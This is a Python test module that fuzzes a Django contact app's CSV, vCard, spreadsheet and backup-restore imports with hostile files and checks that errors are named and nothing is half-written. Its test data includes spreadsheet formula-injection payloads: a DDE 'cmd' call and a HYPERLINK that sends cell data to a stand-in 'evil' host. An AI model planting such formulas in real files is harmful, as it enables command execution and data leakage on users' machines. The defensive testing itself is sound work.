"""Hostile files through every door a file comes in by: the import pages, the admin's import and
the restore (at once and in the background). Huge lines, control characters, wrong encodings,
formula prefixes, deep nesting, truncated cards and JSON: never a 500, nothing half-written, and a
refusal says what is wrong (the line, the row, the section or item) rather than a generic "could
not be read". Example counts are kept small: the module runs in well under a minute."""

import copy
import io
import itertools
import json
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from contacts.models import Contact, ImportJob
from transfer import tasks
from transfer.backup import BackupEncoder, backup
from transfer.models import RestoreJob
from transfer.restore import RestoreError, restore_backup

from .import_helpers import accept_mapping, confirm, upload
from .test_admin import NamedFile, make_staff
from .test_backup_roundtrip import COVERED, OWNER_PATH, rich_network  # noqa: F401 (rich_network: a fixture)

pytestmark = pytest.mark.django_db
HOSTILE = hypothesis_settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,
)
NEW_USERS = itertools.count()
GENERIC_IMPORT_FAILURE = "The file could not be read"  # what an unexpected exception becomes

# --- hostile pieces -----------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
CONTROLS = "".join(chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32), 127, 0x85, 0x2028, 0xFEFF])
hostile_text = st.one_of(
    st.text(max_size=30),
    st.text(alphabet=CONTROLS, min_size=1, max_size=5),
    st.sampled_from(FORMULAS),
    st.sampled_from(["Zoë Brontë", "山田 太郎", "\U0001f600", "a" * 300, "x@y", "http://", "0/0/00", "1815-12-10"]),
)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1", "shift_jis", "koi8-r"]


def encoded(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


@st.composite
def hostile_csv(draw) -> bytes:
    header = draw(
        st.sampled_from(
            ["First Name,Last Name,Email Address,Birthday", "first_name;last_name;emails;birthday", "Name\tE-mail"]
        )
    )
    delimiter = "," if "," in header else (";" if ";" in header else "\t")
    rows = draw(st.lists(st.lists(hostile_text, min_size=1, max_size=4), max_size=12))
    lines = [header] + [delimiter.join(cells) for cells in rows]
    if draw(st.booleans()):  # one huge line, longer than a CSV field may be
        lines.insert(draw(st.integers(1, len(lines))), "Huge," + "h" * draw(st.sampled_from([70_000, 140_000])))
    if draw(st.booleans()):
        lines.insert(1, '"an unterminated quote,' + draw(hostile_text))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    return encoded(newline.join(lines) + newline, draw(st.sampled_from(ENCODINGS)))


VCARD = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada Lovelace\r\nN:Lovelace;Ada;;;\r\nEMAIL;TYPE=INTERNET:ada@example.org\r\n"
    "TEL;TYPE=CELL:+44 20 7946 0000\r\nNOTE;ENCODING=QUOTED-PRINTABLE:caf=C3=A9 =\r\n au lait\r\n"
    "PHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRgABAQ\r\n  AAAQABAAD/2wBDAAgGBgcG\r\nURL:http\\://example.org\r\n"
    "END:VCARD\r\n"
)


@st.composite
def hostile_vcards(draw) -> bytes:
    cards = VCARD * draw(st.integers(1, 4))
    extra = draw(st.sampled_from(["", "NOTE:" + "n" * 120_000 + "\r\n", "FN:" + CONTROLS + "\r\n", "ORG:=1+1\r\n"]))
    cards = cards.replace("END:VCARD\r\n", extra + "END:VCARD\r\n", 1)
    if draw(st.booleans()):  # cut anywhere: a download that stopped half-way
        cards = cards[: draw(st.integers(1, len(cards) - 1))]
    return encoded(cards, draw(st.sampled_from(ENCODINGS)))


# --- the import pages ---------------------------------------------------------------------


@HOSTILE
@given(raw=st.one_of(hostile_csv(), hostile_vcards()), file_format=st.sampled_from(["auto", "csv", "vcard"]))
def test_hostile_files_on_the_import_page_are_named_or_imported_never_a_500(owner_client, raw, file_format):
    before = Contact.objects.count()
    response, job = upload(owner_client, raw, "hostile.txt", file_format)
    assert response.status_code in (302, 400)
    if response.status_code == 400:
        message = " ".join(response.context["form"].errors.get("file", []))
        assert message and GENERIC_IMPORT_FAILURE not in message, message
        assert Contact.objects.count() == before
        return
    if job.status == ImportJob.Status.NEEDS_MAPPING:
        accept_mapping(owner_client, job)
    assert owner_client.get(job.get_absolute_url()).status_code in (200, 302)
    assert Contact.objects.count() == before  # nothing before the confirm
    if job.status == ImportJob.Status.FAILED:
        assert GENERIC_IMPORT_FAILURE not in job.error, job.error
        return
    if job.status != ImportJob.Status.PREVIEWED:
        return
    for entry in job.preview["entries"]:
        assert entry["action"] != "error" or entry.get("line"), entry  # an error names its line
    expected_new = job.preview["counts"]["new"]
    assert confirm(owner_client, job).status_code == 302
    created = Contact.objects.count() - before
    assert created == (expected_new if job.status == ImportJob.Status.DONE else 0)


# --- the admin's import -------------------------------------------------------------------

cell_value = st.one_of(
    hostile_text.map(lambda text: re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)),  # openpyxl writes no others
    st.integers(-(10**15), 10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.none(),
)


@st.composite
def hostile_workbook(draw) -> bytes:
    book = openpyxl.Workbook()
    header = draw(st.lists(st.sampled_from(["first_name", "last_name", "emails", "notes", "tags", "id"]) | cell_value,
                           min_size=1, max_size=5))  # fmt: skip
    book.active.append(header)
    for row in draw(st.lists(st.lists(cell_value, max_size=7), max_size=10)):
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    raw = buffer.getvalue()
    if draw(st.booleans()):
        raw = raw[: draw(st.integers(1, len(raw) - 1))]  # a truncated zip
    return raw


@pytest.fixture
def admin_staff_client(client, db):
    client.force_login(make_staff("hostile-staffer"))
    return client


@HOSTILE
@given(
    file=st.one_of(hostile_csv().map(lambda raw: (raw, "x.csv")), hostile_workbook().map(lambda raw: (raw, "x.xlsx")))
)
def test_hostile_files_to_the_admin_import_are_named_or_imported_never_a_500(admin_staff_client, file):
    raw, name = file
    before = Contact.objects.count()
    preview = admin_staff_client.post(
        reverse("admin:contacts_contact_import"),
        {"import_file": io.BytesIO(raw) | NamedFile(name), "format": int(name.endswith(".xlsx")), "resource": 0},
    )
    assert preview.status_code == 200
    assert Contact.objects.count() == before  # the preview writes nothing
    refusal = " ".join(preview.context["form"].errors.get("import_file", []))
    assert "encountered while trying to read file" not in refusal, refusal  # an unnamed exception
    result = preview.context.get("result")
    if result is not None:
        for invalid in result.invalid_rows:
            assert invalid.number and invalid.error_dict, invalid  # each bad row is named, with its fields
        for number, errors in result.row_errors():
            assert number and errors, (number, errors)
    confirm_form = preview.context.get("confirm_form")
    if confirm_form is not None:
        done = admin_staff_client.post(reverse("admin:contacts_contact_process_import"), confirm_form.initial)
        assert done.status_code == 302
        assert Contact.objects.count() == before + result.totals["new"]


# --- the restore --------------------------------------------------------------------------

NAMED = re.compile(
    r"\w+\[\d+\]|\b(plan|preferences)\b|section|not JSON|not a netcrm backup|version|no sections"
    r"|nested too deeply|file is empty|\w+\.\w+ is not a list"
)
# Each kind of JSON value about as often as the others (a recursive strategy favours collections).
any_value = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(),
    hostile_text,
    st.lists(st.integers() | hostile_text | st.lists(st.none(), max_size=1), max_size=3),
    st.dictionaries(st.text(max_size=6), st.integers() | hostile_text, max_size=3),
)


def deeply_nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def places(node, path=()):
    """The path of every value in a JSON document, e.g. ("sections", "contacts", "contacts", 0, "tags")."""
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in children:
        yield (*path, key)
        yield from places(value, (*path, key))


@st.composite
def hostile_backup(draw, document: dict) -> bytes:
    """A real backup, damaged a few ways anywhere in it (a value of another type, a field or an
    item dropped, an item twice: the same name or ref), then maybe cut short, mis-encoded or
    nested very deep."""
    document = copy.deepcopy(document)
    for _ in range(draw(st.integers(1, 2))):  # more would mostly hide each other (the first refusal wins)
        inside = list(places(document["sections"]))
        path = ("sections", *inside[draw(st.integers(0, len(inside) - 1))])
        parent = document
        for key in path[:-1]:
            parent = parent[key]
        key = path[-1]
        action = draw(st.sampled_from(["replace", "replace", "drop", "duplicate"]))
        if action == "replace":
            parent[key] = draw(any_value)
        elif action == "drop":
            del parent[key]
        elif isinstance(parent, list):
            parent.append(copy.deepcopy(parent[key]))
    text = json.dumps(document, cls=BackupEncoder, allow_nan=True)
    damage = draw(st.sampled_from(["none"] * 8 + ["cut", "deep", "deep_value", "encoding"]))
    if damage == "cut":
        text = text[: draw(st.integers(0, len(text) - 1))]
    elif damage == "deep":
        text = deeply_nested(draw(st.sampled_from([900, 5000, 100_000])))
    elif damage == "deep_value":
        text = text.replace('"notes": "', f'"notes": {deeply_nested(draw(st.sampled_from([500, 900])))}, "x": "', 1)
    elif damage == "encoding":
        return encoded(text, draw(st.sampled_from(["utf-16", "cp1252", "shift_jis"])))
    return text.encode()


def owned_rows(user) -> dict:
    return {model.__name__: model.objects.filter(**{OWNER_PATH.get(model, "owner"): user}).count()
            for models in COVERED.values() for model in models}  # fmt: skip


@pytest.fixture
def donor_document(owner, request):
    request.getfixturevalue("rich_network")  # a real account with a row in every model
    return json.loads(json.dumps(backup(owner=owner), cls=BackupEncoder))


@pytest.fixture
def restore_queue(monkeypatch):
    sent = []
    monkeypatch.setattr(tasks.restore_backup_job, "apply_async", lambda args=(), **_: sent.append(args[0]))
    return sent


def restore_as_a_new_user(client, raw: bytes, restore_queue, django_capture_on_commit_callbacks):
    user = get_user_model().objects.create(username=f"restorer{next(NEW_USERS)}")  # no password to hash
    client.force_login(user)
    client.get(reverse("transfer:export"))  # a first visit makes the plan and preferences of a new account
    before = owned_rows(user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("transfer:restore"), {"file": io.BytesIO(raw) | NamedFile("backup.json")})
    assert response.status_code in (302, 400)
    job = RestoreJob.objects.filter(owner=user).first()
    if job is not None and job.pk in restore_queue:
        tasks.restore_backup_job(job.pk)  # the worker's part
        job.refresh_from_db()
        page = client.get(job.get_absolute_url())
        assert page.status_code == 200
        message = job.error if job.status == RestoreJob.Status.FAILED else None
    else:
        message = None if response.status_code == 302 else " ".join(response.context["restore_form"].errors["file"])
    return user, before, message


@hypothesis_settings(HOSTILE, max_examples=100)
@given(data=st.data(), in_background=st.booleans())
def test_hostile_backups_are_restored_whole_or_refused_naming_the_item(
    client, donor_document, restore_queue, django_capture_on_commit_callbacks, data, in_background, settings
):
    settings.NETCRM_IMPORT_BACKGROUND_BYTES = 0 if in_background else 256 * 1024
    raw = data.draw(hostile_backup(donor_document))
    user, before, message = restore_as_a_new_user(client, raw, restore_queue, django_capture_on_commit_callbacks)
    if message is None:  # restored: all of it
        document = json.loads(raw)
        assert Contact.objects.filter(owner=user).count() == len(document["sections"]["contacts"]["contacts"])
    else:
        assert NAMED.search(message), message
        assert owned_rows(user) == before  # refused: not a row written


@pytest.mark.parametrize(
    ("place", "value", "message"),
    [
        (("contacts", "contacts", 0, "tags"), [[1]], "contacts[0]: there is no tag called “[1]”"),
        (("contacts", "contacts", 0, "classification"), {"a": 1}, "contacts[0]: there is no classification called"),
        (("contacts", "contacts", 0, "created_at"), 1e308, "contacts[0].created_at: 1e+308 is not a valid date (with"),
        (("contacts", "contacts", 0, "birthday"), 99999999999, "contacts[0].birthday: 99999999999 is not a valid date"),
        (("contacts", "contacts", 0, "first_name"), "a\x00b", "contacts[0].first_name: contains a NUL character."),
        (("contacts", "contacts", 0, "notes"), [[["deep"]]], "contacts[0].notes: a list or an object where"),
        (("contacts", "interactions", 0), 5, "interactions[0] is not an object."),
        (("followups", "preferences", "time_zone"), ["UTC"], "preferences.time_zone: a list or an object"),
    ],
)
def test_a_value_of_the_wrong_type_anywhere_in_a_backup_is_named(owner, donor_document, place, value, message):
    """Cases the fuzzing above found once (each was a 500): kept as plain examples."""
    document = copy.deepcopy(donor_document)
    *path, key = place
    parent = document["sections"]
    for step in path:
        parent = parent[step]
    parent[key] = value
    newcomer = get_user_model().objects.create(username="newcomer")
    with pytest.raises(RestoreError, match=re.escape(message)):
        restore_backup(owner=newcomer, raw=json.dumps(document).encode())
    assert not Contact.objects.filter(owner=newcomer).exists()
